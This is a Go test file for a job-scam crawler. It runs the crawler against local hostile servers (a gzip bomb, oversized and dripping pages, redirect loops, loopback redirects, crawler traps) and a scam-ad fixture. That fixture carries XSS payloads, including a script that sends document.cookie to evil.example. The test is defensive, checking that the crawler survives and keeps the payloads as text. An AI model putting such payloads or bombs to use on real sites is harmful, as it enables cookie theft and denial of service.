package crawler_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"github.com/lokerwatch/lokerwatch/internal/heappeak"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/lokerwatch/lokerwatch"
	"github.com/lokerwatch/lokerwatch/config"
	"github.com/lokerwatch/lokerwatch/crawler"
	"github.com/lokerwatch/lokerwatch/storage"
)

// hostileServer is one host of the hostile web, recording what it serves.
type hostileServer struct {
	srv   *httptest.Server
	conns atomic.Int64 // TCP connections accepted
	mu    sync.Mutex
	hits  map[string]int // path?query -> requests
	sent  atomic.Int64   // body bytes written
}

func newHostile(t *testing.T, h func(hs *hostileServer, w http.ResponseWriter, r *http.Request)) *hostileServer {
	hs := &hostileServer{hits: map[string]int{}}
	hs.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hs.mu.Lock()
		hs.hits[r.URL.RequestURI()]++
		hs.mu.Unlock()
		if r.URL.Path == "/robots.txt" {
			http.NotFound(w, r)
			return
		}
		h(hs, w, r)
	}))
	hs.srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			hs.conns.Add(1)
		}
	}
	hs.srv.Start()
	t.Cleanup(hs.srv.Close)
	return hs
}

func (hs *hostileServer) count(prefix string) int {
	hs.mu.Lock()
	defer hs.mu.Unlock()
	n := 0
	for k, v := range hs.hits {
		if strings.HasPrefix(k, prefix) {
			n += v
		}
	}
	return n
}

func (hs *hostileServer) hostPort() string { return strings.TrimPrefix(hs.srv.URL, "http://") }

// write sends b, counting it; false when the client has gone.
func (hs *hostileServer) write(w http.ResponseWriter, b []byte) bool {
	n, err := w.Write(b)
	hs.sent.Add(int64(n))
	return err == nil
}

const scamPage = `<!doctype html><html><head><meta charset="utf-8"><title>Admin Kamboja</title>
<script type="application/ld+json">{"@context":"https://schema.org/","@type":"JobPosting",
"title":"Admin Media Sosial (Kamboja) &quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
"description":"<p>Dibutuhkan segera admin media sosial untuk perusahaan online di Sihanoukville, Kamboja. Gaji $1500/bulan, tanpa pengalaman, tidak perlu ijazah.</p><script>alert(document.cookie)<\/script><p>Tiket pesawat dan visa ditanggung perusahaan, berangkat pakai visa turis, langsung berangkat minggu ini. Paspor dipegang perusahaan selama kontrak.</p><p>&lt;script&gt;fetch('https://evil.example/?c='+document.cookie)&lt;/script&gt;</p>",
"datePosted":"2026-11-20","hiringOrganization":{"@type":"Organization","name":"Golden Fortune Group"}}</script>
</head><body><h1>Admin</h1><script>document.write('<a href="/from-script">x</a>')</script></body></html>`

// The payload the ad's text must keep, as text.
const scamPayload = `<script>fetch('https://evil.example/?c='+document.cookie)</script>`

// TestCrawlHostileWeb is the gate of the hostile-web work: one crawl of a
// web that redirects to a loopback address the config does not allow,
// serves a 1 GiB gzip bomb, a 60 MB page, a page that drips a byte every
// 2 s, redirect loops, an endless calendar, binary data labelled text/html,
// broken HTML with invalid UTF-8 and 5,000 nested tables, and a scam ad
// carrying script payloads. The crawl must end on its own, never connect
// to the disallowed address, stay under 512 MB of heap, record every
// refusal with its reason, and still flag the scam ad with its payload
// kept as text.
func TestCrawlHostileWeb(t *testing.T) {
	if testing.Short() {
		t.Skip("hostile-web crawl")
	}
	forbidden := newHostile(t, func(hs *hostileServer, w http.ResponseWriter, r *http.Request) {
		t.Errorf("the disallowed server was asked for %s", r.URL)
		w.Write([]byte("<p>internal admin page</p>"))
	})
	fp := forbidden.srv.Listener.Addr().(*net.TCPAddr).Port

	// 1 GiB of HTML as gzip members back to back, made as it is sent.
	var member bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&member, gzip.BestCompression)
	zw.Write(bytes.Repeat([]byte(" "), 1<<20))
	zw.Close()
	var head bytes.Buffer
	zw = gzip.NewWriter(&head)
	zw.Write([]byte("<html><body><p>bomb</p>"))
	zw.Close()
	bomb := newHostile(t, func(hs *hostileServer, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Encoding", "gzip")
		if !hs.write(w, head.Bytes()) {
			return
		}
		for i := 0; i < 1024 && hs.write(w, member.Bytes()); i++ {
		}
	})
	// 60 MB of ordinary HTML, streamed.
	big := newHostile(t, func(hs *hostileServer, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Length", fmt.Sprint(60_000_000))
		chunk := bytes.Repeat([]byte("<p>Lowongan kerja operator.</p>\n"), 1000) // 32,000 bytes
		w.Write([]byte("<html><body>"))
		for n := 12; n < 60_000_000 && hs.write(w, chunk[:min(len(chunk), 60_000_000-n)]); n += len(chunk) {
		}
	})
	// A byte every 2 s, for ever.
	drip := newHostile(t, func(hs *hostileServer, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusOK)
		tick := time.NewTicker(2 * time.Second)
		defer tick.Stop()
		for {
			if !hs.write(w, []byte("<")) {
				return
			}
			w.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-tick.C:
			}
		}
	})
	// Calendars that never end, and relative links that loop.
	cal := newHostile(t, func(hs *hostileServer, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		q := r.URL.Query()
		var links []string
		switch {
		case r.URL.Path == "/calendar":
			var y, m int
			fmt.Sscan(q.Get("year"), &y)
			fmt.Sscan(q.Get("month"), &m)
			next := time.Date(y, time.Month(m)+1, 1, 0, 0, 0, 0, time.UTC)
			prev := time.Date(y, time.Month(m)-1, 1, 0, 0, 0, 0, time.UTC)
			links = append(links, fmt.Sprintf("/calendar?month=%d&year=%d", next.Month(), next.Year()),
				fmt.Sprintf("/calendar?month=%d&year=%d", prev.Month(), prev.Year()))
		case strings.HasPrefix(r.URL.Path, "/events/"):
			d, err := time.Parse("/events/2006/01/02", r.URL.Path)
			if err != nil {
				http.NotFound(w, r)
				return
			}
			links = append(links, d.AddDate(0, 0, 1).Format("/events/2006/01/02"), d.AddDate(0, 0, -1).Format("/events/2006/01/02"))
		case strings.HasPrefix(r.URL.Path, "/a/"):
			links = append(links, "a/", "b/") // one level deeper on every page
		default:
			http.NotFound(w, r)
			return
		}
		fmt.Fprintf(w, "<html><body><p>Kalender</p>")
		for _, l := range links {
			fmt.Fprintf(w, `<a href="%s">%s</a> `, l, l)
		}
	})

	rng := rand.New(rand.NewPCG(1, 2))
	binary := make([]byte, 64<<10)
	for i := range binary {
		binary[i] = byte(rng.Uint32())
	}
	copy(binary, "\x89PNG\r\n\x1a\n")
	var broken strings.Builder
	broken.WriteString("<html><body>\x00<p>Rusak \xff\xfe\xfd</p>")
	broken.WriteString(strings.Repeat("<table><tr><td>\x00\xc3", 5000))
	broken.WriteString("<script type=\"application/ld+json\">{\"@type\":\"JobPosting\",\"title\":\"Operator Gudang \xff Bekasi\"," +
		"\"description\":\"Lowongan operator gudang \xfe\x00 di Bekasi,\n gaji UMK.\"}</script>")
	broken.WriteString(strings.Repeat("</td></tr>", 2500) + "<div><span><p>")

	main := newHostile(t, func(hs *hostileServer, w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/start":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			links := []string{"/scam", "/loop", "/ping", "/binary", "/broken", "/out", "/out-localhost",
				fmt.Sprintf("http://127.0.0.1:%d/direct", fp), fmt.Sprintf("http://[::1]:%d/v6", fp),
				bomb.srv.URL + "/bomb", big.srv.URL + "/big", drip.srv.URL + "/drip",
				cal.srv.URL + "/calendar?month=11&year=2026", cal.srv.URL + "/events/2026/11/27", cal.srv.URL + "/a/"}
			fmt.Fprint(w, "<html><body><h1>Lowongan</h1>")
			for _, l := range links {
				fmt.Fprintf(w, `<a href="%s">%s</a>`, l, l)
			}
		case "/scam":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Write([]byte(scamPage))
		case "/loop":
			http.Redirect(w, r, "/loop", http.StatusFound)
		case "/ping":
			http.Redirect(w, r, "/pong", http.StatusFound)
		case "/pong":
			http.Redirect(w, r, "/ping", http.StatusFound)
		case "/binary":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Write(binary)
		case "/broken":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Write([]byte(broken.String()))
		case "/out":
			http.Redirect(w, r, fmt.Sprintf("http://127.0.0.1:%d/admin", fp), http.StatusFound)
		case "/out-localhost":
			http.Redirect(w, r, fmt.Sprintf("http://localhost:%d/admin", fp), http.StatusFound)
		default:
			http.NotFound(w, r)
		}
	})

	cfg := config.Default()
	cfg.Crawl.UserAgent = "lokerwatch-test/1.0"
	cfg.Crawl.Parallelism = 8
	cfg.Crawl.HostDelay = 0
	cfg.Crawl.MaxDepth = 1000 // the traps, not the depth limit, must stop the calendars
	cfg.Crawl.MaxBody = 2 << 20
	cfg.Crawl.Timeout = config.Duration(3 * time.Second)
	cfg.Crawl.MaxAttempts = 2
	cfg.Crawl.MaxRedirects = 5
	cfg.Crawl.PagesPerHost = 100
	cfg.Crawl.Lease = config.Duration(20 * time.Second)
	// Only the fixture's own hosts, by host:port; the forbidden server is
	// on the same loopback address, another port.
	for _, hs := range []*hostileServer{main, bomb, big, drip, cal} {
		cfg.Crawl.AllowPrivate = append(cfg.Crawl.AllowPrivate, hs.hostPort())
	}
	cfg.Sources = []config.Source{{Name: "hostile", Type: lokerwatch.SourceJobBoard,
		Seeds: []string{main.srv.URL + "/start"}, Follow: []string{`.`}}}

	st := openStore(t)
	c, err := crawler.New(crawler.Options{
		Config: cfg, Store: st, Classifier: newClassifier(t), Worker: "hostile",
		Logger: slog.New(slog.NewTextHandler(testWriter{t}, &slog.HandlerOptions{Level: slog.LevelWarn})),
	})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if _, err := c.Seed(ctx); err != nil {
		t.Fatal(err)
	}

	// Peak heap, sampled while the crawl runs (servers and all).
	var sum crawler.Summary
	peak := heappeak.During(5*time.Millisecond, func() { sum, err = c.Run(ctx) })
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("summary: %+v", sum)
	t.Logf("peak heap %.1f MiB; bomb server wrote %.1f MiB compressed, big server %.1f MB",
		float64(peak)/(1<<20), float64(bomb.sent.Load())/(1<<20), float64(big.sent.Load())/1e6)

	if !sum.Finished || ctx.Err() != nil {
		t.Fatalf("the crawl did not end on its own: %+v", sum)
	}
	if sum.Duration > 25*time.Second {
		t.Errorf("crawl took %v; the slowest page is cut at 3 s (twice, with a 1 s back-off)", sum.Duration)
	}
	if peak > 512<<20 {
		t.Errorf("peak heap %d MiB, want under 512", peak>>20)
	}
	if n := forbidden.conns.Load(); n != 0 {
		t.Errorf("the disallowed address got %d connections", n)
	}
	if n := big.sent.Load(); n >= 60_000_000 {
		t.Errorf("the 60 MB page was read to the end (%d bytes)", n)
	}

	// Every refusal and failure is recorded with its reason.
	failed, err := st.ListFailed(ctx, 1000)
	if err != nil {
		t.Fatal(err)
	}
	reasons := map[string]storage.FailedRequest{}
	for _, f := range failed {
		reasons[f.URL] = f
		t.Logf("failed: %s dead=%v: %s", f.URL, f.Dead, f.Reason)
	}
	want := map[string][]string{
		main.srv.URL + "/out":                         {"refused by the network guard", fmt.Sprintf("127.0.0.1:%d is loopback", fp)},
		main.srv.URL + "/out-localhost":               {"refused by the network guard", "localhost resolves to"},
		fmt.Sprintf("http://127.0.0.1:%d/direct", fp): {"refused by the network guard", "loopback"},
		fmt.Sprintf("http://[::1]:%d/v6", fp):         {"refused by the network guard", "loopback"},
		main.srv.URL + "/loop":                        {"redirect loop"},
		main.srv.URL + "/ping":                        {"redirect loop"},
		main.srv.URL + "/binary":                      {"not a text page", "image/png"},
		drip.srv.URL + "/drip":                        {"cut off at crawl.timeout (3s)"},
	}
	for u, parts := range want {
		f, ok := reasons[u]
		if !ok {
			t.Errorf("%s: no failure recorded", u)
			continue
		}
		for _, p := range parts {
			if !strings.Contains(f.Reason, p) {
				t.Errorf("%s: reason %q, want it to say %q", u, f.Reason, p)
			}
		}
	}
	if f := reasons[drip.srv.URL+"/drip"]; !f.Dead {
		t.Errorf("the dripping page is not dead after %d tries: %+v", cfg.Crawl.MaxAttempts, f)
	}
	if n := drip.count("/drip"); n != cfg.Crawl.MaxAttempts {
		t.Errorf("the dripping page was fetched %d times, want %d", n, cfg.Crawl.MaxAttempts)
	}
	if sum.Refused != 4 {
		t.Errorf("summary counts %d refusals, want 4", sum.Refused)
	}
	for _, u := range []string{bomb.srv.URL + "/bomb", big.srv.URL + "/big", main.srv.URL + "/broken", main.srv.URL + "/scam"} {
		if f, ok := reasons[u]; ok {
			t.Errorf("%s failed (%s); it is a page, cut at max_body or repaired", u, f.Reason)
		}
	}

	// The traps were cut by trap detection, each after its allowance.
	for _, reason := range []string{"trap: calendar", "trap: repeating path segments"} {
		if sum.Skipped[reason] == 0 {
			t.Errorf("no link skipped as %q: %v", reason, sum.Skipped)
		}
	}
	if n := cal.count("/calendar"); n < 2 || n > 32 {
		t.Errorf("calendar months fetched %d times, want the 31 allowed at most", n)
	}
	if n := cal.count("/events/"); n < 2 || n > 32 {
		t.Errorf("calendar days fetched %d times, want the 31 allowed at most", n)
	}
	if n := cal.count("/a/"); n < 2 || n > 10 {
		t.Errorf("looping paths fetched %d times", n)
	}

	// The scam ad is extracted and flagged, its payload kept as text.
	var scam, op *lokerwatch.Ad
	err = st.ScanAds(ctx, storage.AdFilter{}, func(ad *lokerwatch.Ad) error {
		if !utf8.ValidString(ad.Text+ad.Title+ad.Company) || strings.ContainsRune(ad.Text+ad.Title, 0) {
			t.Errorf("ad %s holds invalid UTF-8 or NUL: %q %q", ad.URL, ad.Title, ad.Text)
		}
		switch ad.URL {
		case main.srv.URL + "/scam":
			scam = ad
		case main.srv.URL + "/broken":
			op = ad
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if scam == nil {
		t.Fatal("the scam ad was not extracted")
	}
	if scam.Assessment == nil || !scam.Assessment.Flagged {
		t.Errorf("the scam ad is not flagged: %+v", scam.Assessment)
	}
	if !strings.Contains(scam.Text, scamPayload) || strings.Contains(scam.Text, "alert(document.cookie)") {
		t.Errorf("scam ad text %q: want the escaped payload as text and the real <script> dropped", scam.Text)
	}
	if !strings.Contains(scam.Title, `"><img src=x onerror=alert(1)>`) {
		t.Errorf("scam ad title %q: want the payload kept as text", scam.Title)
	}
	items, err := st.ListItems(ctx, storage.ReviewFilter{})
	if err != nil || len(items) != 1 || items[0].AdID != scam.ID {
		t.Errorf("review queue %+v (%v); want the scam ad alone", items, err)
	}
	if op == nil || !strings.Contains(op.Text, "Lowongan operator gudang") || !strings.Contains(op.Title, "Operator Gudang") {
		t.Errorf("the ad of the broken page: %+v", op)
	}
}
